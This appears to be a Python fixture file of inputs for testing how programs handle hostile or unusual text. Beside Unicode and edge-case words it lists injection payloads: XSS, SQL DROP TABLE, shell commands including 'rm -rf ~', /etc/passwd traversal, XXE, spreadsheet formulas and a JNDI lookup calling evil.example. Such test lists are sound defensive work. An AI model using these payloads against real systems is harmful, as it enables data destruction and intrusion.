"""Texts that trip up programs: our own list, by what they try. None of them is a reason to fall."""

PLANES = {
    "accents beside their letters": "A\u0300na Li\u0301ma",
    "right to left": "\u05d0\u05e0\u05d4 \u0644\u064a\u0645\u0627",
    "overrides of direction": "\u202eamiL anA\u202c\u2066x\u2069",
    "nothing to be seen": "A\u200bn\u200da\ufeff\u2060",
    "blanks of all kinds": "\u00a0\u2003\u3000Ana\u2028Lima\u2029",
    "letters on letters": "A" + "\u0300\u0301\u0302\u0303" * 40,
    "beyond the first plane": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020000 \U0001d49c",
    "flags and tones": "\U0001f1e9\U0001f1ea \U0001f44d\U0001f3ff",
    "the dotless i": "\u0131\u0130 \u00df\u1e9e \ufb01",
    "wide and narrow": "\uff21\uff4e\uff41 \uff76\uff85",
    "no character at all": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\U000f0000",
    "line ends": "Ana\r\nLima\rAna\nLima",
    "control characters": "A\x01\x07\x08\x0b\x0c\x1b[31mna\x7f\x85",
    "a NUL": "Ana\x00Lima",
    "half a character": "Ana \ud83d Lima",
    "numbers of other peoples": "\u0661\u0662\u0663 \u0967\u0968",
}
TRICKS = {
    "a script": "<script>alert(1)</script>",
    "a script that leaves an attribute": "\"><img src=x onerror=alert(1)>'",
    "a script in an address": "javascript:alert(1)//",
    "entities": "&lt;b&gt; &#x3c;script&#x3e; &amp;amp;",
    "a template": "{{ 7*7 }}{% load static %}{# x #}",
    "a format": "%s %d %n %(name)s {0} {name!r}",
    "a query": "'; DROP TABLE crm_contact; --",
    "signs of a pattern": "%_\\ [a-z]* (?:x)+ ^$ .*",
    "a shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat",
    "a path": "../../../../etc/passwd\\..\\..",
    "a formula": '=HYPERLINK("http://evil.example","x")',
    "more formulas": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "markup": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "an object": '{"__proto__": {"admin": true}, "$gt": ""}',
    "a header": "Ana\r\nSet-Cookie: a=b\r\n\r\n<html>",
}
WORDS = {
    **{word or "nothing": word for word in ("null", "NULL", "None", "nil", "undefined", "NaN", "true", "false", "")},
    **{word: word for word in ("-1", "0", "1e309", "0x1F", "999999999999999999999", "1/0", "Infinity", "12:34:56")},
    "a blank": " ",
    "only marks": "!?.,;:-_~^",
    "long, without a blank": "\u00e4" * 5000,
    "long, of many words": "na " * 3000,
    "a real name that looks wrong": "Nu\u0308l O'Null-\u00d8",
}
NAUGHTY = {**PLANES, **TRICKS, **WORDS}
